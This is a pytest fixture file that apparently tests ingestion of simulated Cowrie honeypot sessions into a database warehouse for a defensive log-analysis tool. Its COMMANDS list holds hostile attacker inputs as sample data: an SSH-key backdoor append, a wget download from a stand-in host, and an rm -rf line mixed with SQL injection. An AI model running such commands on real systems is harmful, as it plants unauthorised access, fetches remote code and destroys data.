"""Sessions that share addresses, credentials, commands and files at random, as a list and in a warehouse."""

import json
import random
from base64 import b64decode, b64encode
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from functools import cache
from hashlib import sha256
from pathlib import Path

import pytest

from cowrie_assets.campaigns.update import update_campaigns
from cowrie_assets.operations.ingest import ingest
from cowrie_assets.settings import Settings
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets_tests.databases import ENGINES, Databases, Engine
from cowrie_assets_tests.loading import write_log

ADDRESSES = ("192.0.2.7", "192.0.2.200", "198.51.100.9", "2001:db8::7", "::ffff:203.0.113.5")
CREDENTIALS = (("root", "toor"), ("root", "a:b%_!"), ("adm\x00in", "\ud800"), ("", ""))
_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
KEY = (_KEY, "SHA256:" + b64encode(sha256(b64decode(_KEY)).digest()).decode().rstrip("="))
"""A public key and its fingerprint."""
COMMANDS = (
    f"echo ssh-ed25519 {KEY[0]} me@evil >> .ssh/authorized_keys",
    "uname -a",
    "wget http://203.0.113.66/a.sh",
    "rm -rf %_!\\ '; DROP TABLE texts; --",
    "é" * 3000,
)
URLS = ("http://203.0.113.66/a.sh", "HTTP://Evil.Example:8080/x?y=1", "http://evil_example/", "http://[2001:db8::1]/z")
HASSHES = (None, "472b5de333ad665af5cbf10ff892c4df", "f" * 32)


@dataclass(frozen=True)
class Made:
    """A session as it is written to a log."""

    sensor: str
    session_id: str
    day: str
    address: str
    credential: tuple[str, str]
    command: str
    url: str
    shasum: str
    hassh: str | None


def _made(number: int, choose: random.Random) -> Made:
    url = choose.choice(URLS)
    return Made(
        sensor=choose.choice(("hp-one", "hp-two")),
        session_id=f"{number % 30:012x}",  # on both sensors
        day=f"2026-08-{choose.randrange(10, 29)}",
        address=choose.choice(ADDRESSES),
        credential=choose.choice(CREDENTIALS),
        command=choose.choice(COMMANDS),
        url=url,
        shasum=sha256(url.encode()).hexdigest(),
        hassh=choose.choice(HASSHES),
    )


def _lines(made: Made, number: int) -> Iterator[bytes]:
    common = {"session": made.session_id, "sensor": made.sensor, "timestamp": f"{made.day}T01:02:03.{number:06}Z"}
    user, password = made.credential
    told = {
        "cowrie.session.connect": {"src_ip": made.address},
        "cowrie.client.kex": {"hassh": made.hassh},
        "cowrie.login.success": {"username": user, "password": password},
        "cowrie.command.input": {"input": made.command},
        "cowrie.session.file_download": {"url": made.url, "shasum": made.shasum},
    }
    for eventid, fields in told.items():
        if None not in fields.values():
            yield json.dumps({"eventid": eventid, **common, **fields}).encode()


@pytest.fixture(scope="session")
def made() -> list[Made]:
    choose = random.Random(12)
    found = {}
    for number in range(60):
        each = _made(number, choose)
        found.setdefault((each.sensor, each.session_id), each)
    return list(found.values())


@pytest.fixture(scope="package")
def loaded(
    databases: Databases, made: list[Made], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Callable[[Engine], Warehouse]]:
    """The warehouse of an engine that holds these sessions."""
    with ExitStack() as opened:

        @cache
        def of(engine: Engine) -> Warehouse:
            folder: Path = tmp_path_factory.mktemp("found")
            url = databases.new(engine, folder)
            warehouse = opened.enter_context(Warehouse.open(url))
            lines = [each for number, session in enumerate(made) for each in _lines(session, number)]
            write_log(folder / "logs", lines)
            ingest(warehouse, Settings(log_root=folder / "logs", database_url=url))
            update_campaigns(warehouse)
            return warehouse

        yield of


@pytest.fixture(params=ENGINES)
def warehouse(request: pytest.FixtureRequest, loaded: Callable[[Engine], Warehouse]) -> Warehouse:
    return loaded(request.param)
